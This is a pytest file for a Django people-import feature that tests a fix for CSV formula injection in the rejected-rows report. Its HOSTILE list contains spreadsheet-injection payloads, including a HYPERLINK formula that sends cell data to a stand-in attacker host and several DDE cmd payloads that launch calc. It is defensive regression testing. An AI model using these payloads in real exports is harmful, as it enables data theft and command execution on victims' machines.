"""Security finding 11: the import's rejected-rows CSV kept = + - @, tab- and
CR-prefixed cells verbatim; opened in Excel they run as formulas."""

import csv

import pytest

from tavana.core.domain.cells import defuse
from tavana.core.models import District
from tavana.people.importing import import_people

from .import_files import write_csv

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_domain_defuse_puts_an_apostrophe_before_every_formula_start():
    for value in HOSTILE:
        assert defuse(value) == "'" + value
    assert defuse("مریم") == "مریم" and defuse("0912") == "0912"


def test_rejected_rows_csv_defuses_every_hostile_cell(tmp_path):
    District.objects.create(number=4, name="منطقه ۴")
    headers = ["کد ملی", "نام", "نام خانوادگی", "=cmd|' /C calc'!A0"]
    rows = [["1234567890", value, "رضایی", value] for value in HOSTILE]  # bad codes: rejected
    path = write_csv(tmp_path / "in.csv", headers, rows)
    report = tmp_path / "rejected.csv"
    result = import_people(path, actor=None, report=report)
    assert result.rejected == len(HOSTILE)
    with report.open(encoding="utf-8-sig", newline="") as f:
        written = list(csv.reader(f))
    assert written[0][3] == "'" + headers[3]
    for row in written[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert sorted(r[1] for r in written[1:]) == sorted("'" + v for v in HOSTILE)
